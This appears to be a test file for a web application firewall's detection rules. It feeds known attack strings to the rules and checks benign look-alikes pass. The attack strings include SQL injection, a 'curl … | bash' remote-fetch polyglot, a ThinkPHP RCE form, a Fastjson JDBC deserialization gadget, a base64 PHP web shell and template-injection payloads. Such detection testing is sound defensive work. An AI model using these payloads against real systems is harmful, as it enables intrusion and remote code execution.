/**
 * What the eighty-sixth to eighty-eighth pairs taught (scanner toolkits' probes, school software,
 * healthcare systems): a tautology spelled as sums, a select list joined by `||`, a path segment
 * that names its key, a quote glued to a year in a password, echo as a scanner's probe, a polyglot
 * that closes either quote, ThinkPHP's magic-method override, a GET tunnelling a DELETE, DWR's
 * plain calls, a data URI without its scheme, MySQL's deserializing JDBC interceptor, and
 * Strapi's numbered list operators.
 */
import { describe, expect, it } from "vitest";
import { eachBackend, field, form, request } from "./support.ts";

const at = (path: string) => request({ path, rawPath: path });

describe("SQL a scanner spells to slip past a window", () => {
  it("reads a tautology whose sides are sums (Acunetix's `2+366-366-1=0+0+0+1`)", () => {
    eachBackend((where, name) => {
      expect(where(request({ query: [["cat", "-1 OR 2+366-366-1=0+0+0+1 -- "]] })), name).toContain("942100@query:cat");
      expect(where(field("Rooms 4 or 2+1 with a view")), name).toEqual([]);
    });
  });

  it("reads a select list joined by `||` (PowerSchool's tlist_sql)", () => {
    const tlist =
      "~[tlist_sql;SELECT lastfirst||':'||loginid||':'||password FROM users WHERE rownum<50]~(1)[/tlist_sql]";
    eachBackend((where, name) => {
      expect(where(field(tlist)), name).toContain("942180@body:form.v");
      expect(where(field("Select one || or the other from the list")), name).toEqual([]);
    });
  });

  it("judges the value after a path segment's `name:` (Canvas's `sis_user_id:`)", () => {
    eachBackend((where, name) => {
      expect(where(at("/api/v1/users/sis_user_id:S1024' OR '1'='1/profile")), name).toContain("942100@path");
      expect(where(at("/api/v1/users/sis_user_id:S1024/profile")), name).toEqual([]);
      expect(where(at("/v1/projects/p1/documents:batchGet")), name).toEqual([]);
    });
  });

  it("takes a number glued to the quote as a year's apostrophe or a password's, unless SQL words follow", () => {
    eachBackend((where, name) => {
      expect(where(form("email=a%40b.example&password=Kierowca%2723%3B%3Cdyspozytor%3E%7C%23")), name).toEqual([]);
      expect(where(field("Summer'24; bring #3")), name).toEqual([]);
      expect(where(field("x'1 or 1=1#")), name).toContain("942110@body:form.v");
      expect(where(field("x'1;drop table users#")), name).toContain("942110@body:form.v");
      expect(where(field("admin'#")), name).toContain("942110@body:form.v");
    });
  });
});

describe("commands a scanner probes with", () => {
  it("takes echo glued to a separator after an address, not a word after prose's separator", () => {
    eachBackend((where, name) => {
      expect(where(request({ query: [["host", "127.0.0.1|echo hkqz$()\\ hjsp||a #"]] })), name).toContain(
        "932100@query:host",
      );
      expect(where(request({ query: [["host", "8.8.8.8;echo 5f2a"]] })), name).toContain("932100@query:host");
      expect(where(field("2024; echo chamber")), name).toEqual([]);
      expect(where(field("Pitch 2; echo and reverb off")), name).toEqual([]);
    });
  });

  it("reads a polyglot from its second quote too (`'|\" |curl …|bash`)", () => {
    eachBackend((where, name) => {
      expect(where(field("`{}`.pptx'|\" |curl 203.0.113.61/c.sh|bash||a #")), name).toContain("932100@body:form.v");
      expect(where(field(`He said 'yes' and "no" later`)), name).toEqual([]);
    });
  });
});

describe("frameworks' dispatch turned on themselves", () => {
  it("takes ThinkPHP's `_method=__construct`, not a method override", () => {
    eachBackend((where, name) => {
      expect(where(form("_method=__construct&filter[]=system&method=get&server[REQUEST_METHOD]=id")), name).toContain(
        "933150@body:form._method",
      );
      expect(where(form("_method=PUT&title=Draft")), name).toEqual([]);
    });
  });

  it("takes a GET whose override header names a method that writes", () => {
    const get = (method: string, value: string) =>
      request({
        method,
        headers: [
          ["host", "app.example"],
          ["x-http-method-override", value],
        ],
      });
    eachBackend((where, name) => {
      expect(where(get("GET", "DELETE")), name).toContain("920141@header:x-http-method-override");
      expect(where(get("HEAD", "put")), name).toContain("920141@header:x-http-method-override");
      expect(where(get("GET", "GET")), name).not.toContain("920141@header:x-http-method-override");
      expect(
        where(
          request({
            method: "POST",
            headers: [
              ["host", "app.example"],
              ["x-http-method-override", "PATCH"],
            ],
          }),
        ),
        name,
      ).not.toContain("920141@header:x-http-method-override");
    });
  });

  it("takes MySQL's deserializing interceptor in a Fastjson document", () => {
    const doc = JSON.stringify({
      "@type": "com.mysql.jdbc.JDBC4Connection",
      hostToConnectTo: "203.0.113.15",
      portToConnectTo: 3306,
      info: {
        statementInterceptors: "com.mysql.jdbc.interceptors.ServerStatusDiffInterceptor",
        autoDeserialize: "true",
      },
    });
    eachBackend((where, name) => {
      expect(where(request({ text: doc, type: "application/json" })), name).toContain(
        "944120@body:json.info.statementInterceptors",
      );
      const driver = JSON.stringify({ driver: "com.mysql.cj.jdbc.Driver", url: "jdbc:mysql://db:3306/shop" });
      expect(where(request({ text: driver, type: "application/json" })), name).toEqual([]);
    });
  });
});

describe("bodies read as their servers read them", () => {
  it("decodes DWR's plain-call parameters", () => {
    const call = (param: string) =>
      request({
        text: `callCount=1\npage=/openmrs/findPatient.htm\nhttpSessionId=\nscriptSessionId=4C1A\nc0-scriptName=DWRPatientService\nc0-methodName=findPatients\nc0-id=0\nc0-param0=string:${param}\nc0-param1=boolean:false\nbatchId=3\n`,
        type: "text/plain",
      });
    eachBackend((where, name) => {
      expect(where(call("x%27%20or%20%271%27%3D%271')%20--%20")), name).toContain("942100@body:form.dwr.c0-param0");
      expect(where(call("O%27Brien")), name).toEqual([]);
    });
  });

  it("decodes a data URI whose scheme was left off (Gibbon's rubric image)", () => {
    const php = btoa("<?php echo system($_GET['cmd']); ?>");
    eachBackend((where, name) => {
      expect(where(form(`img=${encodeURIComponent(`image/png;asdf,${php}`)}&path=asdf.php`)), name).toContain(
        "933100@body:form.img.data",
      );
      const png = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==";
      expect(where(form(`img=${encodeURIComponent(`image/png;base64,${png}`)}`)), name).toEqual([]);
    });
  });

  it("lets Strapi's numbered list operators through as its own filter language", () => {
    const q = (k: string, v: string) => request({ query: [[k, v]] });
    eachBackend((where, name) => {
      expect(where(q("filters[status][$in][0]", "AVAILABLE")), name).toEqual([]);
      expect(where(q("username[$in][0]", "admin")), name).toContain("942290@query-name");
    });
  });
});

describe("what a field made for it sends", () => {
  it("takes an account address whose domain is an internal host with a port or a path (Moodle's WebFinger)", () => {
    eachBackend((where, name) => {
      expect(where(field("admin@127.0.0.1:8983/solr/admin/cores?action=STATUS#")), name).toContain(
        "934190@body:form.v",
      );
      expect(where(field("bob@localhost")), name).toEqual([]);
      expect(where(field("see bob@localhost:3000/x")), name).toEqual([]);
    });
  });

  it("lets Liquid's and Django's `| join: \", \"` through, not Jinja's attribute filters", () => {
    eachBackend((where, name) => {
      expect(where(field('{{attendance.periods | join: ", "}}')), name).toEqual([]);
      expect(where(field("{{ ''|attr('__class__') }}")), name).toContain("934170@body:form.v");
      expect(where(field("{{ (request.args.a,request.args.b)|join }}")), name).toContain("934170@body:form.v");
    });
  });

  it("takes a rounding of arithmetic on names as a formula, not SQL", () => {
    eachBackend((where, name) => {
      expect(where(field("ROUND((Q1*0.4) + (Q2*0.4) + (E1*0.2), 1)")), name).toEqual([]);
      expect(where(field("round((select 1))")), name).toContain("942151@body:form.v");
      expect(where(field("ROUND((a*2), 1) or 1=1")), name).toContain("942151@body:form.v");
      // The same of a call nested in another (a valuation's adjustment), not of SQL's functions.
      expect(where(field("min(abs(subject.year - comp.year), 30) * -500")), name).toEqual([]);
      expect(where(field("min(abs(sleep(5)),1)")), name).toContain("942151@body:form.v");
    });
  });
});
